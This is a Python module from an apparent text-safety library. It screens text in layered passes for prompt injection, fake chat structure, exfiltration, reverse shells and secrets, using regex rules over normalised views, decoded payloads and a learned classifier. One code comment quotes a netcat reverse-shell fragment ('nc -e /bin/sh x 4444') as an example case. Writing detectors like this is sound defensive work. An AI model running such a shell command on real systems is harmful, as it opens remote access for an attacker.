"""The layered screen: every rule of every layer, on every view of a text, in one pass.

Layers, in the order findings are listed:

1. **rules** (:mod:`.patterns`): instruction override, role hijack, concealment, disabling
   approvals, self-propagation and phishing in many languages; fake structure (chat-template
   tokens, role tags and messages, chat turns, tool-call syntax, comments addressed to the
   model, templated links); exfiltration as a secret source and a network sink on one line;
   persistence, destruction, remote code, reverse shells, foreign pushes; secrets. Each rule
   reads the views of the text it is written for (:mod:`.canonical`): the base form (NFKC,
   invisible characters removed) and, where they differ, the bare, folded (confusables
   skeleton), leetspeak and letter-spacing readings. A match that names the thing rather than
   does it -- a rule against it, an attack quoted as an example, a command that cannot run as
   written, a placeholder secret -- is skipped (:mod:`.mentions`, judged on the base text).
2. **invisible characters** (:mod:`.unicode`), found in the raw text.
3. **decoded payloads** (:mod:`.decode`): base64, hex, escapes, percent-encoding, entities and
   rot13 runs are decoded and the result is screened again (depth and size bounded).
4. **the learned layer** (:mod:`.learned`), when its weights are installed: a classifier over
   character n-grams for the paraphrases and languages no rule lists.

A scan looks at the first 64 KiB and the last 16 KiB of a text (a cost bound: callers that
accept big texts scan them in windows, as skills do). What keeps a 2 KB entry at a few
milliseconds: a rule runs only on a view that holds the literals its regex needs
(:mod:`.prefilter`), and there only where a match can begin (:mod:`.starts`); a view that
repeats an earlier one for the same rules is not read twice.
"""

from __future__ import annotations

import bisect
import functools
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from typing import Final, get_args

import numpy as np
import numpy.typing as npt

from kenning.safety import compiled, decode, grams, learned, prefilter, starts
from kenning.safety.canonical import View, base_view, extra_views
from kenning.safety.findings import Finding, excerpt
from kenning.safety.mentions import mentioned
from kenning.safety.patterns import RULES
from kenning.safety.patterns.schema import SCRIPTS, ClauseRule, Pattern, Rule, Scope
from kenning.safety.patterns.schema import View as ViewName
from kenning.safety.patterns.structure import mentions_removed
from kenning.safety.unicode import INVISIBLE_REASONS, find_invisible

HEAD_CHARS: Final = 64 * 1024
TAIL_CHARS: Final = 16 * 1024
MAX_DEPTH: Final = 3  # decoding inside decoding: base64 of base64 of a command, and no deeper
_MAX_MENTIONS: Final = 64  # mentions of one rule skipped in a window before it stops looking

# A sentence ends at . ! ? followed by a space (not in "README.md" or "v2.3"), at CJK
# terminators, semicolons and line breaks.
_CLAUSE_END: Final = compiled.regex(r"[.!?](?=\s|$)|[。！？;；\n]")


@dataclass
class _Text:
    """One window of a text and its views, with lazily computed clause boundaries."""

    raw: str
    offset: int  # where the window starts in the whole text
    views: dict[str, View]
    _clauses: dict[str, list[tuple[int, int]]] = field(default_factory=dict)
    _starts: dict[str, list[int]] = field(default_factory=dict)
    _quoted: dict[str, str] = field(default_factory=dict)
    _scripts: dict[str, frozenset[str]] = field(default_factory=dict)
    _literals: dict[tuple[str, bool], prefilter.Literals] = field(default_factory=dict)
    exhaustive: bool = False  # run every regex, prefilters ignored (to check they change nothing)

    def scripts(self, name: str) -> frozenset[str]:
        """The non-Latin scripts the view holds ("" always: Latin is everywhere)."""
        if name not in self._scripts:
            text = self.views[name].text
            held = {s for s, chars in SCRIPTS.items() if chars.search(text)}
            if "cjk" in held:
                held.add("kana" if SCRIPTS["kana"].search(text) else "cjk")
            self._scripts[name] = frozenset({"", *held})
        return self._scripts[name]

    def clauses(self, name: str) -> list[tuple[int, int]]:
        if name not in self._clauses:
            text = self.views[name].text
            bounds, start = [], 0
            for m in _CLAUSE_END.finditer(text):
                bounds.append((start, m.end()))
                start = m.end()
            bounds.append((start, len(text)))
            self._clauses[name] = bounds
        return self._clauses[name]

    def clause_starts(self, name: str) -> list[int]:
        if name not in self._starts:
            self._starts[name] = [c[0] for c in self.clauses(name)]
        return self._starts[name]

    def literals(self, name: str, *, quoted: bool) -> prefilter.Literals | None:
        """The prefilter's literals in the view (or its unquoted text) and the rules they leave
        possible; None when the screen is exhaustive."""
        if self.exhaustive:
            return None
        key = (name, quoted)
        found = self._literals.get(key)
        if found is None:
            text = self.views[name].text
            if quoted and self.unquoted(name) is not text:  # one rule reads it: no pass
                found = prefilter.Literals(self.unquoted(name), _plan().index, scan="none")
            elif quoted:  # no inline code: the same text
                return self.literals(name, quoted=False)
            else:
                scan = "every" if len(text) < SCAN_BELOW else "grams"
                found = prefilter.Literals(text, _plan().index, scan=scan)
            self._literals[key] = found
        return found

    @property
    def base(self) -> View:
        return self.views["base"]

    def in_base(self, name: str, start: int, end: int) -> tuple[int, int]:
        """The span of the base view that ``views[name].text[start:end]`` came from: mentions
        are judged on the base text, where every script is as written."""
        if name == "base":
            return start, end
        lo, hi = self.views[name].span(start, end)
        origin = self.base.origin
        if origin is None:
            return lo, hi
        return bisect.bisect_left(origin, lo), bisect.bisect_left(origin, hi)

    def unquoted(self, name: str) -> str:
        if name not in self._quoted:
            self._quoted[name] = mentions_removed(self.views[name].text)
        return self._quoted[name]


def _grams(literals: prefilter.Literals | None, text: str) -> grams.Grams | None:
    """The n-grams that say where a regex can match in ``text`` (the text ``literals`` read),
    or None: an exhaustive screen, or a text short enough to search whole."""
    return None if literals is None or len(text) < GRAMS_FROM else literals.grams


def _match_pattern(
    rule: Pattern,
    where: starts.Starts,
    text: str,
    index: grams.Grams | None,
    window: _Text,
    name: str,
) -> tuple[int, int] | None:
    # The first match is found where one can begin (:mod:`.starts`); it is the first
    # ``search`` would find. Only when it is skipped does the search go on from the next
    # character, overlapping it (there too only where a match can begin).
    m = next(starts.matches(rule.regex, text, where, index), None)
    skipped, mention_end = 0, 0
    while m is not None:
        # After a mention the search goes on inside it: `mkfifo` + `nc -e /bin/sh x 4444` holds
        # a shell that reaches past it. A match within the mention is part of it.
        pos = m.start() + 1
        if m.end() <= mention_end:
            m = _next(rule.regex, where, text, index, pos)
            continue
        # Ordinary use first: it reads the match alone, where a mention reads its sentence.
        if rule.exempt is not None and rule.exempt(m.group()):
            m = _next(rule.regex, where, text, index, pos)
            continue
        if mentioned(rule, window.base.text, [window.in_base(name, m.start(), m.end())]):
            skipped, mention_end = skipped + 1, m.end()
            if skipped > _MAX_MENTIONS:
                return None
            m = _next(rule.regex, where, text, index, pos)
            continue
        return m.start(), m.end()
    return None


def _next(
    regex: re.Pattern[str], where: starts.Starts, text: str, index: grams.Grams | None, pos: int
) -> re.Match[str] | None:
    """``regex.search(text, pos)``, tried only where a match can begin."""
    return next(starts.matches(regex, text, where, index, pos), None)


_Needs = tuple[prefilter.Requirement, ...]
# The rows of a scope that read a view, and the node of each one's requirement in the index's
# program (:class:`.prefilter.Literals`' ``truth``).
_Readers = tuple[npt.NDArray[np.intp], npt.NDArray[np.intp]]
_ANYWHERE: Final = starts.Starts(None, (), False, None)


# Views shorter than this are read for every literal in one pass, longer ones by their grams.
SCAN_BELOW: Final = 80
# Regexes run on texts from this long only where a match can begin (:mod:`.starts`).
GRAMS_FROM: Final = 256


@dataclass(frozen=True)
class _Plan:
    """What the literal prefilter (:mod:`.prefilter`) knows of the rule table."""

    needs: tuple[_Needs, ...]  # by index in RULES: a pattern's one, a clause rule's per alternative
    index: prefilter.Index  # its rows: the indices in RULES
    # By index in RULES, where matches can begin: a pattern's regex and gate; a clause rule's
    # first part of each alternative, and its Latin gate.
    begins: tuple[tuple[starts.Starts | None, ...], ...]
    # By scope and view: the rows of the scope that read the view (but not its unquoted text),
    # with the node of each one's requirement (a pattern's, or what one of a clause rule's
    # alternatives needs); and the rows that read the unquoted text, each screened on its own.
    readers: dict[tuple[Scope, str], _Readers]
    unquoted: dict[Scope, tuple[int, ...]]
    shadows: frozenset[tuple[str, str]]  # (a, b): every rule that reads view b reads view a

    def possible(self, scope: Scope, name: str, literals: prefilter.Literals) -> list[int]:
        """The rows of ``scope`` reading view ``name`` that a text with ``literals`` leaves
        possible. A pattern left out here is one :func:`_find` would not run on the view."""
        rows, nodes = self.readers[scope, name]
        found: list[int] = rows[literals.truth[nodes]].tolist()
        return found


@functools.cache
def _plan() -> _Plan:
    """The plan, from the cache file (:mod:`.compiled`) where a process made it before."""
    return compiled.plan(_make_plan, _Plan)


def _make_plan() -> _Plan:
    needs: list[_Needs] = []
    where: list[tuple[starts.Starts | None, ...]] = []
    for rule in RULES:
        if isinstance(rule, ClauseRule):
            needs.append(tuple(prefilter.requirements(alt) for alt in rule.alternatives))
            firsts = [starts.starts(alt[0]) for alt in rule.alternatives]
            gate = None if rule.latin_gate is None else starts.starts(rule.latin_gate)
            where.append((*firsts, gate))
        else:  # the gate must match too
            needs.append((prefilter.requirements([rule.regex, *filter(None, [rule.gate])]),))
            gate = None if rule.gate is None else starts.starts(rule.gate)
            where.append((starts.starts(rule.regex), gate))
    rows_need = [prefilter.any_of(n) for n in needs]
    index = prefilter.Index(rows_need, also=[n for ns in needs for n in ns])
    readers: dict[tuple[Scope, str], _Readers] = {}
    unquoted: dict[Scope, tuple[int, ...]] = {}
    for scope in get_args(Scope):
        rows = [row for row, rule in enumerate(RULES) if scope in rule.scopes]
        quoted = [row for row in rows if _reads_unquoted(RULES[row])]
        unquoted[scope] = tuple(quoted)
        for name in get_args(ViewName):
            read = [row for row in rows if row not in quoted and name in RULES[row].views]
            nodes = [index.row_nodes[row] for row in read]
            readers[scope, name] = (np.array(read, dtype=np.intp), np.array(nodes, dtype=np.intp))
    names: tuple[str, ...] = get_args(ViewName)
    shadows = frozenset(
        (a, b)
        for a in names
        for b in names
        if a != b and all(a in rule.views for rule in RULES if b in rule.views)
    )
    return _Plan(tuple(needs), index, tuple(where), readers, unquoted, shadows)


def _reads_unquoted(rule: Rule) -> bool:
    return isinstance(rule, Pattern) and rule.skip_inline_code


def _search(
    regex: re.Pattern[str], where: starts.Starts | None, text: str, index: grams.Grams | None
) -> re.Match[str] | None:
    """``regex.search(text)``, tried only where a match can begin."""
    if where is None or index is None:
        return regex.search(text)
    return next(starts.matches(regex, text, where, index), None)


def _match_clause(
    rule: ClauseRule,
    row: int,
    window: _Text,
    name: str,
    needs: _Needs,
    literals: prefilter.Literals | None,
) -> tuple[int, int] | None:
    text = window.views[name].text
    held = window.scripts(name)
    index = _grams(literals, text)
    where = _plan().begins[row]
    latin_only = name not in ("base", "bare")  # folding leaves other scripts as they were
    latin_open: bool | None = None  # the Latin gate, searched once and only if needed
    for k, alternative in enumerate(rule.alternatives):
        script = rule.scripts[k] if rule.scripts else ""
        if script not in held or (latin_only and script):
            continue
        if literals is not None and not literals.holds(needs[k]):
            continue
        if not script:
            if latin_open is None:
                latin_open = rule.latin_gate is None or (
                    _search(rule.latin_gate, where[-1], text, index) is not None
                )
            if not latin_open:
                continue
        first, rest = alternative[0], alternative[1:]
        clauses = window.clauses(name)
        bounds = window.clause_starts(name)
        parts: dict[int, list[re.Match[str]] | None] = {}  # by clause: where the rest matched
        for m in starts.matches(first, text, where[k] or _ANYWHERE, index):
            at = bisect.bisect_right(bounds, m.start()) - 1
            clause = clauses[at]
            if at not in parts:
                parts[at] = _parts(rest, text, clause)
            found = parts[at]
            if found is not None:
                spans = [(m.start(), m.end())] + [(f.start(), f.end()) for f in found]
                if mentioned(rule, window.base.text, [window.in_base(name, *p) for p in spans]):
                    continue  # a rule against it, an attack quoted as an example
                return clause[0], clause[1]
    return None


def _tries(window: _Text, scope: Scope) -> list[tuple[int, list[str]]]:
    """The rows of ``scope`` to try on ``window``, in order, each with its views to try (in
    the window's order): those whose literals leave the row possible (:mod:`.prefilter`)."""
    plan = _plan()
    names: dict[int, list[str]] = {}
    for name in window.views:
        literals = window.literals(name, quoted=False)
        if literals is None:  # exhaustive: every row that reads the view
            rows = plan.readers[scope, name][0].tolist()
        else:
            rows = plan.possible(scope, name, literals)
        for row in rows:
            names.setdefault(row, []).append(name)
    for row in plan.unquoted[scope]:  # a text of their own: :func:`_find` reads its literals
        names[row] = [name for name in window.views if name in RULES[row].views]
    return sorted(names.items())


def _parts(
    rest: Sequence[re.Pattern[str]], text: str, clause: tuple[int, int]
) -> list[re.Match[str]] | None:
    """Where each regex of ``rest`` first matches in the clause, or None if one does not."""
    found = []
    for part in rest:
        match = part.search(text, clause[0], clause[1])
        if match is None:
            return None
        found.append(match)
    return found


def _find(rule: Rule, row: int, window: _Text, names: list[str]) -> tuple[str, int, int] | None:
    """The view and span of the first match of ``rule`` (RULES[row]) in the views ``names``,
    or None. A view that lacks the literals the rule needs is not searched."""
    needs = _plan().needs[row]
    quoted = _reads_unquoted(rule)
    for name in names:
        literals = window.literals(name, quoted=quoted)
        if quoted and literals is not None and not literals.possible(row):
            continue
        if isinstance(rule, ClauseRule):
            span = _match_clause(rule, row, window, name, needs, literals)
        else:
            if literals is not None and not literals.holds(needs[0]):
                continue
            text = window.unquoted(name) if rule.skip_inline_code else window.views[name].text
            index = _grams(literals, text)
            regex_starts, gate_starts = _plan().begins[row]
            if rule.gate is not None and _search(rule.gate, gate_starts, text, index) is None:
                continue
            span = _match_pattern(rule, regex_starts or _ANYWHERE, text, index, window, name)
        if span is not None:
            return name, span[0], span[1]
    return None


def _window_findings(
    window: _Text,
    scope: Scope,
    depth: int,
    exhaustive: bool,
    overlapping: bool,
    found: dict[str, Finding],
    settled: frozenset[str],
) -> Iterator[Finding]:
    """The window's findings, in layer order. ``found`` is what the caller has kept so far
    (it grows as this yields); rows of a category in ``settled`` are not tried (see
    :func:`_settled`)."""
    for row, names in _tries(window, scope):
        rule = RULES[row]
        if rule.category in settled:
            continue
        match = _find(rule, row, window, names)
        if match is None:
            continue
        name, start, end = match
        lo, hi = window.views[name].span(start, end)
        layer = "clause" if isinstance(rule, ClauseRule) else "pattern"
        yield Finding(
            rule.pattern_id,
            rule.category,
            rule.reason,
            excerpt(window.raw[lo:hi], redact=rule.category == "secret"),
            (window.offset + lo, window.offset + hi),
            layer,
        )
    at_text_start = window.offset == 0
    for kind, i in find_invisible(window.raw, at_text_start=at_text_start).items():
        yield Finding(
            kind,
            "invisible_unicode",
            INVISIBLE_REASONS[kind],
            excerpt(window.raw[max(0, i - 24) : i + 24]),
            (window.offset + i, window.offset + i + 1),
            "unicode",
        )
    if depth == 0 and scope != "rules":
        refused, _ = learned.verdict(window.raw)
        if refused:
            yield Finding(
                "learned_injection",
                "injection",
                "reads as a prompt injection to the learned classifier (prompt injection)",
                excerpt(window.raw),
                (window.offset, window.offset + len(window.raw)),
                "learned",
            )
    if depth >= MAX_DEPTH:
        return
    base = window.views["base"]
    for blob in decode.blobs(base.text):
        lo, hi = base.span(blob.start, blob.end)
        span = (window.offset + lo, window.offset + hi)
        for inner in screen_text(
            blob.text,
            scope,
            depth=depth + 1,
            exhaustive=exhaustive,
            overlapping=overlapping,
            settled=settled if overlapping else settled | _settled(span, found.values()),
        ):
            yield Finding(
                inner.pattern_id,
                inner.category,
                f"{inner.reason}, hidden in {blob.encoding}",
                inner.excerpt,
                span,
                f"decoded:{blob.encoding}",
            )


def _windows(text: str) -> list[tuple[str, int]]:
    if len(text) <= HEAD_CHARS + TAIL_CHARS:
        return [(text, 0)]
    return [(text[:HEAD_CHARS], 0), (text[-TAIL_CHARS:], len(text) - TAIL_CHARS)]


def screen_text(
    text: str,
    scope: Scope,
    *,
    depth: int = 0,
    exhaustive: bool = False,
    overlapping: bool = False,
    settled: frozenset[str] = frozenset(),
) -> list[Finding]:
    """Every finding for ``text`` in ``scope``, one per rule id, in layer order.

    ``exhaustive`` runs every regex on every view, ignoring the literal prefilters and the
    views that repeat another: the same findings, slower (the tests check that they are the
    same). ``overlapping`` also keeps the findings an earlier row of the same category already
    covers: every rule that fired, to explain a verdict or test one rule whatever the table's
    order (the verdict is the same either way). ``settled``: categories whose findings the
    caller will drop whatever they are (a decoded payload's, see :func:`_settled`)."""
    found: dict[str, Finding] = {}
    for raw, offset in _windows(text):
        base = base_view(raw)
        views = {"base": base}
        for view in extra_views(base):
            if exhaustive or not _repeats(view, views):
                views[view.name] = view
        window = _Text(raw, offset, views, exhaustive=exhaustive)
        findings = _window_findings(window, scope, depth, exhaustive, overlapping, found, settled)
        for finding in findings:
            if finding.pattern_id in found:
                continue
            if overlapping or not _covered(finding, found.values()):
                found[finding.pattern_id] = finding
    return list(found.values())


def rules_fired(text: str, scope: Scope) -> set[str]:
    """The id of every rule that fires on ``text``, also those an earlier row of the same
    category already covers (:func:`screen_text` reports one thing once, by the first row)."""
    return {f.pattern_id for f in screen_text(text, scope, overlapping=True)}


def _repeats(view: View, earlier: dict[str, View]) -> bool:
    """True if ``view`` is an earlier view over again, read first by every rule that reads it:
    the two leet readings are one when no "1" in a word was read as a letter. A rule that
    finds nothing in the earlier one finds nothing in it either (what a rule finds depends on
    the text alone), and one that finds something is reported from the earlier one."""
    return any(
        other.text == view.text
        and other.origin == view.origin
        and (other.name, view.name) in _plan().shadows
        for other in earlier.values()
    )


def _settled(span: tuple[int, int], earlier: Iterable[Finding]) -> frozenset[str]:
    """The categories of the earlier findings that overlap ``span``: every finding in a payload
    decoded from ``span`` is reported with that span, so one of these categories would be
    :func:`_covered` and dropped -- its rules need not run on the payload at all (what costs
    on an attack: rot13 and assembled pieces re-screen the whole text). Only when findings
    do not overlap: with ``overlapping`` every rule is kept."""
    start, end = span
    return frozenset(f.category for f in earlier if f.span[0] < end and start < f.span[1])


def _covered(finding: Finding, earlier: Iterable[Finding]) -> bool:
    """True if an earlier finding of the same category overlaps it: one thing caught by two
    rules is reported once, by the earlier row of the table."""
    start, end = finding.span
    return any(
        f.category == finding.category and f.span[0] < end and start < f.span[1] for f in earlier
    )


@dataclass(frozen=True)
class Assessment:
    """A screen's verdict with the learned layer's score: blocked, borderline or clean."""

    findings: list[Finding]
    score: float  # the learned layer's score, 0.0 when it is not installed

    @property
    def borderline(self) -> bool:
        """Not refused, but close enough that content from an untrusted source waits for
        review: the classifier's score is past its review threshold."""
        model = learned.load()
        return not self.findings and model is not None and self.score >= model.review


def assess(text: str, scope: Scope) -> Assessment:
    """:func:`screen_text` and the learned layer's score, for callers that weigh provenance."""
    model = learned.load()
    score = learned.score(model, text) if model is not None else 0.0
    return Assessment(screen_text(text, scope), score)


def first_reasons(findings: Sequence[Finding]) -> list[str]:
    """The distinct reasons, in order."""
    return list(dict.fromkeys(f.reason for f in findings))
